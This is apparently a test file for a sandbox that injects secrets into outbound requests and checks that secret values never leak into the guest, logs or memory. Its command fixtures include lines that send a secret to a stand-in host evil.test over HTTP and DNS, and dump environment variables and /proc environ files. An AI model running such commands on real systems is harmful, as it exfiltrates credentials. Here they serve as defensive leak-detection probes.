/**
 * After a session with secrets in every place, of every source, with everything traced: no value is anywhere but
 * in sbx itself. Run by scripts/test-secret-scan; the suite has a short form in secret_clients_test.ts.
 */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { randomBytes } from "node:crypto";
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type Batch, inGuest } from "../support/batch.ts";
import { MEET, type SandboxScan, scanSandbox } from "../support/sandbox_scan.ts";
import { formsOf, type Hit, scanTexts } from "../support/scan.ts";
import type { Report } from "../support/recorder.ts";
import { openWorld, type World } from "../support/world.ts";

/** All values have this in them, and the guest is given what it is to be found by. */
const core = randomBytes(12).toString("hex");
const plant = randomBytes(12).toString("hex");

const VALUES = { ALL_KEY: `all-${core}`, BASIC_KEY: `basic-${core}`, COMMAND_KEY: `cmd-${core}` };

const ALL = "https://all.example.com";
const KEY = '-H "Authorization: Bearer $ALL_KEY"';

const COMMANDS = {
  http1: `curl -sS --http1.1 ${KEY} ${ALL}/whoami -D -`,
  http2: `curl -sS --http2 ${KEY} ${ALL}/whoami -D -`,
  query: `curl -sS ${KEY} "${ALL}/whoami?key=$ALL_KEY"`,
  path: `curl -sS ${KEY} "${ALL}/bot$ALL_KEY/whoami"`,
  json:
    `curl -sS ${KEY} -H 'Content-Type: application/json' -d "{\\"key\\":\\"$ALL_KEY\\"}" ${ALL}/`,
  form: `curl -sS ${KEY} -d "key=$ALL_KEY" ${ALL}/`,
  parts: `curl -sS ${KEY} -F "key=$ALL_KEY" ${ALL}/`,
  zipped:
    `echo "key: $ALL_KEY" | gzip | curl -sS ${KEY} -H 'Content-Type: text/plain' -H 'Content-Encoding: gzip' --data-binary @- ${ALL}/`,
  basic: 'curl -sS -u "me:$BASIC_KEY" https://basic.example.com/whoami',
  command: 'curl -sS -H "X-Api-Key: $COMMAND_KEY" https://command.example.com/whoami',
  stray: 'curl -sS -H "X-Api-Key: $ALL_KEY" https://command.example.com/',
  elsewhere: 'curl -sS "http://evil.test/?key=$ALL_KEY"',
  asked: "getent hosts $BASIC_KEY.evil.test",
  kept: "env >/out/env; cp -r /tmp /out/tmp; cat /proc/self/environ /proc/1/environ >/out/environ",
  planted: `printf ${plant} | base64 >/dev/shm/planted`,
  meet: MEET,
};

let world: World;
let batch: Batch<keyof typeof COMMANDS>;
let seen: Report;
let scan: SandboxScan;
/** Of what the run left behind. */
let left: readonly Hit[];

beforeAll(async () => {
  const bearer = `Bearer ${VALUES.ALL_KEY}`;
  const basic = `Basic ${btoa(`me:${VALUES.BASIC_KEY}`)}`;
  world = await openWorld({
    members: {
      "all.example.com": { field: "authorization", value: bearer },
      "basic.example.com": { field: "authorization", value: basic },
      "command.example.com": { field: "x-api-key", value: VALUES.COMMAND_KEY },
    },
  });
  const [out, meet, data, sources] = ["out", "meet", "data", "sources"].map((name) => {
    const dir = join(world.scratch, name);
    mkdirSync(dir);
    return dir;
  }) as [string, string, string, string];
  for (const name of ["ALL_KEY", "COMMAND_KEY"] as const) {
    writeFileSync(join(sources, name), VALUES[name]);
    chmodSync(join(sources, name), 0o600);
  }
  const log = join(world.scratch, "journal");
  const forms = formsOf(core);
  const planted = formsOf(plant).map(({ name, bytes }) => ({ name: `planted ${name}`, bytes }));
  const running = inGuest(
    world,
    [
      ...["--upstream-ca", world.ca, "--log", log, "-m", "512"],
      ...["-v", `${out}:/out`, "-v", `${meet}:/meet`],
      ...["--secret", `ALL_KEY=file:${sources}/ALL_KEY@all.example.com`],
      ...["--secret-place", "ALL_KEY=header,basic,query,path,body"],
      ...["--secret", "BASIC_KEY@basic.example.com"],
      ...["--secret", `COMMAND_KEY=cmd:cat ${sources}/COMMAND_KEY@command.example.com`],
      ...["--on-secret-violation", "block-and-log"],
    ],
    COMMANDS,
    {
      limit: 600,
      env: { SBX_TRACE: "all", BASIC_KEY: VALUES.BASIC_KEY, XDG_DATA_HOME: data },
    },
  );
  const scanned = scanSandbox(meet, [out, meet, data], [...forms, ...planted])
    .finally(() => writeFileSync(join(meet, "done"), ""));
  [batch, scan] = await Promise.all([running, scanned]);
  seen = await world.internet.report();
  left = scanTexts(
    {
      stderr: batch.run.stderr,
      probes: JSON.stringify(batch.probes),
      journal: readFileSync(log, "utf8"),
    },
    forms,
  );
}, 700_000);
afterAll(() => world?.[Symbol.asyncDispose]());

const isPlanted = ({ form }: Hit) => form.startsWith("planted ");

test("every place was used, and nobody came without a credential", () => {
  const hosts = new Set(seen.letters.map(({ host }) => host));
  expect([...hosts].sort()).toEqual([
    "all.example.com",
    "basic.example.com",
    "command.example.com",
  ]);
  const all = seen.letters.filter(({ host }) => host === "all.example.com");
  const places = all.map(({ target, body }) => `${target} ${body}`);
  expect(places.filter((text) => text.includes(VALUES.ALL_KEY)).length).toBe(5);
  expect(seen.letters.filter(({ status }) => status === 401)).toEqual([]);
});

test("what is somewhere else is a violation, and told", () => {
  expect(seen.letters.filter(({ target }) => target === "/")).not.toContainEqual(
    expect.objectContaining({ host: "command.example.com" }),
  );
  expect(seen.requests.filter(({ host }) => host === "evil.test")).toEqual([]);
  expect(batch.run.stderr).toContain("secret-violation");
});

test("memory, arguments and environments of the machine and of all below sbx have no value", () => {
  for (const program of ["netstack", "qemu"]) {
    expect(scan.processes.some((name) => name.startsWith(program))).toBe(true);
  }
  expect(scan.hits.filter((hit) => !isPlanted(hit))).toEqual([]);
});

test("neither has the journal, what was traced and said, or anything that the guest could keep", () => {
  expect(batch.run.stderr).toContain("sbx: trace ");
  expect(left).toEqual([]);
});

test("the scan finds what only the guest made of what it was given", () => {
  const found = scan.hits.filter(isPlanted);
  expect(found).toContainEqual({
    where: expect.stringMatching(/^memory of qemu/),
    form: "planted base64 at 0",
  });
});
